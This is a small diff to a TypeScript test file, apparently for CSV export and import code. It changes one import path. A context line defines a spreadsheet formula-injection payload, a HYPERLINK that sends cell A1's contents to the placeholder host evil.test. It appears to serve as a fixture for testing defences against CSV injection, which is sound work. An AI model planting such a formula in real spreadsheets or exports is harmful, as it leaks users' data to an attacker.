@@ -5,7 +5,7 @@ import { db } from "../db";
 import { exportEspSuppressionsCsv } from "../esp-suppression/export";
 import { importErrorsCsv } from "../imports/import-people";
 import { exportSuppressionsCsv } from "../suppression/queries";
-import { suppressIdentifier } from "../suppression/suppress";
+import { suppressIdentifier } from "../deletion/suppress-identifier";
 import { createTestWorkspace, uniqueToken } from "../test/factories";
 
 const FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
